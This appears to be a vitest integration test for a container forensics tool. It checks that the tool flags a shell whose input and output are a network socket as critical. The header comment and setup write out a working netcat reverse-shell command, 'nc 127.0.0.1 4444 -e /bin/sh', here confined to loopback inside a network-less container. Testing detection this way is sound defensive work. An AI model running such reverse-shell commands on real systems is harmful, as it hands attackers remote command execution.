/**
 * A reverse shell running in the container, over loopback (`--network none`): busybox's
 * `nc 127.0.0.1 4444 -e /bin/sh` connects, then becomes `/bin/sh` with the connection as its
 * input and output. Its command line says only `/bin/sh` and its file is the image's own;
 * only its descriptors, read on the engine's host, show whose commands it runs.
 */
import { mkdtemp } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TriageReport } from '../../src/report/triage-report.js';
import { runCoroner } from '../support/coroner-run.js';
import { baseImage, cleanRun, docker, newRunId, runLabelled } from '../support/engine.js';

const runId = newRunId();
const isRoot = process.getuid?.() === 0;
let container: string;
let work: string;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-revshell-'));
  container = `coroner-test-revshell-${runId}`;
  // The "attacker" listens on loopback, its input held open so it never hangs up; the shell
  // dials it.
  await runLabelled(
    container,
    runId,
    await baseImage(),
    'sh',
    '-c',
    '(sleep 3600 | nc -l -p 4444 >/dev/null) & sleep 1; nc 127.0.0.1 4444 -e /bin/sh & while :; do sleep 3600; done',
  );
  // Bounded wait until the dialled shell runs.
  for (let i = 0; i < 50; i++) {
    const ps = await docker('exec', container, 'ps', '-o', 'args');
    if (/^\s*\/bin\/sh\s*$/m.test(ps)) break;
    await new Promise((r) => setTimeout(r, 200));
  }
}, 120_000);
afterAll(() => cleanRun(runId));

describe.runIf(isRoot)('a reverse shell running in the container', () => {
  it('is critical: a command interpreter whose input and output are a network connection', async () => {
    const run = await runCoroner([
      'triage',
      container,
      '--json',
      '--case-dir',
      path.join(work, 'case'),
    ]);
    expect(run.code, run.stderr).toBe(3);
    const report = JSON.parse(run.stdout) as TriageReport;
    const shell = report.processes!.find(
      (p) => p.commandLine.join(' ') === '/bin/sh' && p.sockets.some((s) => s.stdio),
    )!;
    expect(shell.sockets).toContainEqual(
      expect.objectContaining({
        protocol: 'tcp',
        state: 'established',
        remote: '127.0.0.1:4444',
        stdio: [0, 1],
      }),
    );
    expect(shell.findings).toContainEqual(
      expect.objectContaining({
        rule: 'process-shell-on-network',
        severity: 'critical',
        attack: 'T1059',
      }),
    );
    // The listener holds its end as an ordinary descriptor: nothing calls it a shell.
    const listener = report.processes!.find((p) => p.commandLine.join(' ') === 'nc -l -p 4444')!;
    expect(listener.findings.map((f) => f.rule)).not.toContain('process-shell-on-network');
  }, 300_000);
});
